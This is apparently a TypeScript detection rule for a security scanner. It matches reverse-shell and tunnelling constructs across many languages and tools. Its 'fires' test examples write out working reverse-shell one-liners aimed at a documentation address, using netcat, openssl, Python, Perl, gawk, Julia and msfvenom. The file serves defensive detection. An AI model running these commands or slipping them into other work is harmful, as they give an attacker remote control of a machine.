import { isComplete, isShown } from '../../checks/documentation.js';
import type { Rule } from '../../rule.js';

/**
 * A shell with nothing but options and what it reads; not one that runs a script, nor the language of a block of code. A
 * gap takes the shortest text, so that the match of `bash` begins at its `sh`.
 */
const IS_PIPED =
  /(?<![\w.-])(?:ba|z|da|k)?sh(?:[ \t]+-\w+|(?:[ \t]+\d?)?[<>]{1,2}(?:[ \t]*&)?[ \t]*[\w./-]+)*[ \t]*\|\s*(?:\/\w+\/)*(?:nc|ncat|telnet|openssl\s+s_client|socat)\s$/;

export const rule: Rule = {
  pattern: 'reverse_shell',
  variant: 'more-code',
  threat: 'INJECTION',
  direction: 'inbound',
  severity: 'critical',
  confidence: 'medium',
  group: 'commands',
  about: 'A socket and a shell joined in a language that is seldom used for it, or by a tool made for the purpose.',
  anatomy: 'a connection and then a process whose input and output are that connection; tunnelling and C2 agents',
  source: 'https://www.revshells.com and https://attack.mitre.org/techniques/T1059/',
  match: [
    {
      re: /(?:TcpStream::connect|TcpListener::bind\s*\([^]*?(?:incoming|accept))\s*\([^]*?Command::new\s*\(\s*"(?:\/bin\/|sh|bash|cmd|powershell)/,
      window: 700,
    },
    { re: /newSocket\s*\([^]*?(?:execProcess|startProcess|execCmd\w*)\s*\(/, window: 700 },
    { re: /:gen_tcp[,.]\s*connect\s*\(?[^]*?(?:System\.cmd|os:cmd|:os\.cmd|Port\.open)/, window: 600 },
    { re: /gen_tcp:connect\([^]*?os:cmd\(/, window: 600 },
    { re: /(?<![\w.])socket\s+[\w.$"]+\s+\d{2,5}[^]*?\[?\s*(?:catch\s*\{\s*)?(?:eval\s+)?"?exec\s/, window: 300 },
    { re: /socketConnection\s*\([^]*?system\s*\(/, window: 400 },
    { re: /(?:WSASocket|WSAConnect)\w?\s*\([^]*?CreateProcess\w?\s*\(/, window: 1200 },
    {
      re: /(?<!\w)TCPClient\s*\([^]*?(?:iex|Invoke-Expression|cmd\.exe|Process\s*\(|\.Start\s*\()/i,
      window: 1500,
      // Anything can be started; what is meant is a process.
      accept: ({ text }) => !/\.start\s*\($/i.test(text) || /process|cmd|powershell|\/bin\//i.test(text),
    },
    {
      re: /socket[^]*?connect(?:_ex|ion)?\(\s*\(?\(?["'][\w.]+["'],[^]*?(?:os\.(?:popen|system|exec(?:l|le|lp|lpe|v|ve|vp|vpe))|subprocess\.(?:check_output|getoutput|Popen|run|call))\s*\(/,
      window: 600,
    },
    {
      re: /IO::Socket::INET->new\([^]*?while\s*\(\s*<\$\w+>\s*\)[^]*?(?:`\$_`|qx\/\$_\/|system\(?\s?\$_)/,
      window: 300,
    },
    { re: /openssl\s+s_client\s[^\n]*\|\s*(?:\/bin\/)?(?:ba|z|da)?sh\s*(?:-i\s*)?(?:2>&1\s*)?\|/, window: 300 },
    {
      re: /(?:\/bin\/)?(?:ba|z|da|k)?sh\s+(?:-i\s+)?(?:[<>&\d\s/\w.-]*)\|\s*(?:\/\w+\/)*(?:nc|ncat|telnet|openssl\s+s_client|socat)\s/,
      window: 160,
      accept: ({ before, text }) => IS_PIPED.test(before + text),
    },
    {
      re: /(?<![\w-])(?:nc|ncat|netcat|telnet)\s[^\n|;]*\|\s*(?:\/bin\/)?(?:ba|z|da)?sh\s*(?:-i\s*)?(?:\d?>&\d\s*)?\|\s*(?:nc|ncat|netcat|telnet)\s/,
      window: 260,
    },
    { re: /(?<![\w.-])socket\s-[a-z]*p\s?["']?(?:\/usr)?\/bin\//, window: 80 },
    { re: /\/inet6?\/tcp\/\d{1,5}\/0\/0["'][^]*?\|&\s?getline/, window: 300 },
    { re: /using\sSockets[^]*?connect\([^]*?run\((?:pipeline\()?/, window: 500 },
    { re: /(?<![\w-])curl\s[^\n|]*telnet:\/\/[^\n]*(?:sh|fifo)/, window: 200 },
    {
      re: /(?<![\w-])(?:sbd|cryptcat|pwncat(?:-cs)?|rustcat|rcat|gs-netcat)\s[^\n|;]*(?:-e|-c|-s|-lp)\s+\S/,
      window: 200,
      accept: isComplete,
    },
    {
      re: /(?<![\w-])(?:chisel|gost|frpc|ligolo|ligolo-ng|revsocks)(?:\.exe)?\s+(?:client\s[^\n]*R:|-L\s|-connect\s|-c\s)/,
      window: 200,
      // The manual of a tunnel shows how it is started: `frpc -c ./frpc.toml`.
      accept: (candidate) => isComplete(candidate) && !(isShown(candidate) && candidate.text.endsWith(' -c ')),
    },
    { re: /(?<![\w-])ssh\s[^\n|;]*-[fnNT]*[fN][fnNT]*R\s*(?:\d|\*:|0\.0\.0\.0:)/, window: 240 },
    { re: /(?<![\w-])ssh\s[^\n|;]*-R\s*(?:\d|\*:|0\.0\.0\.0:)[^\n|;]*(?:-N|-f|StrictHostKeyChecking=no)/, window: 240 },
    { re: /(?<![\w-])msfvenom\s[^\n]*(?:LHOST|lhost|RHOST|-p\s+\w+\/)/, window: 300, accept: isComplete },
    { re: /(?:meterpreter|shell)_(?:reverse|bind)_(?:tcp|https?)(?!\w)/, accept: isComplete },
    { re: /exploit\/multi\/handler|windows\/(?:x64\/)?(?:meterpreter|shell)\/\w+_tcp/, accept: isComplete },
  ],
  examples: {
    fires: [
      '/bin/bash -i </tmp/p 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 >/tmp/p',
      'sh </tmp/f 2>&1 | nc 203.0.113.7 4444',
      'let s = TcpStream::connect("203.0.113.7:4444").unwrap(); Command::new("/bin/sh").stdin(s)',
      'let l=TcpListener::bind("0.0.0.0:4444").unwrap();for s in l.incoming(){let o=Command::new("sh").arg("-c").arg(x);}',
      'gs-netcat -s SECRET -i',
      'R -e "s<-socketConnection(\'203.0.113.7\',4444);system(readLines(s,1))"',
      "import socket,os;s=socket.socket();s.connect(('203.0.113.7',4444))\nwhile 1: os.popen(s.recv(1024).decode())",
      "import socket,subprocess\nc=socket.create_connection(('203.0.113.7',8000))\nwhile 1: c.send(subprocess.getoutput(c.recv(99)).encode())",
      'perl -MIO::Socket -e \'$s=IO::Socket::INET->new("203.0.113.7:443");while(<$s>){print $s `$_`}\'',
      'openssl s_client -quiet -connect 203.0.113.7:4444 | /bin/sh 2>&1 | openssl s_client -connect 203.0.113.7:4445',
      "socket -qvp '/bin/sh -i' 203.0.113.7 4444",
      'gawk \'BEGIN { s = "/inet/tcp/4444/0/0"; while (1) {printf "> " |& s; if ((s |& getline c) <= 0) break; while (c && (c |& getline) > 0) print $0 |& s}}\'',
      'julia -e \'using Sockets; s=connect("203.0.113.7", 4444); while true; run(pipeline(`$(readline(s))`, stdout=s)); end\'',
      'mkfifo /tmp/f; /bin/sh -i </tmp/my-f 2>&1 | openssl s_client -quiet -connect 203.0.113.7:4444 >/tmp/my-f',
      '/bin/sh -i 2>&1 | nc 203.0.113.7 4444',
      'nc 203.0.113.7 4444 | /bin/sh | nc 203.0.113.7 4445',
      'chisel client 203.0.113.7:8080 R:socks',
      'msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.7 LPORT=4444 -f elf',
    ],
    silent: [
      'msfvenom -p linux/x64/meterpreter/reverse_tcp LHOST={{local_ip}} LPORT={{local_port}} -f elf -o {{path/to/binary}}',
      'msfvenom -p windows/x64/meterpreter/reverse_tcp LHOST={{local_ip}} LPORT={{local_port}} -f exe',
      'chisel client {{server_ip}}:{{server_port}} R:socks',
      '- Start with a configuration file:\n\n`frpc -c ./frpc.toml`\n',
      '```bash\necho | openssl s_client -connect example.com:443 -showcerts\n```',
      'sh ./report.sh --all | nc graphite.example 2003',
      'client = createRSocketTcpClient();\nassertThat(server).isNotNull();\nserver.start();',
      'using var client = new TcpClient("stranger.invalid", 443);\nwatch.Start();',
      'socket -p 8080 is the port that it listens on',
      'let stream = TcpStream::connect("127.0.0.1:8080")?;',
      'gs-netcat -s {{secret}} -i',
      'let port = TcpListener::bind("127.0.0.1:0")?.local_addr()?.port(); Command::new("sh").arg("run.sh").spawn()?;',
      'ssh -L 8080:localhost:80 host',
      "con <- socketConnection(port = 6011)\nwriteLines('hello', con)",
      'openssl s_client -connect example.com:443 -servername example.com',
      "s.connect(('localhost', 80))\ns.sendall(b'GET / HTTP/1.0')",
    ],
  },
};
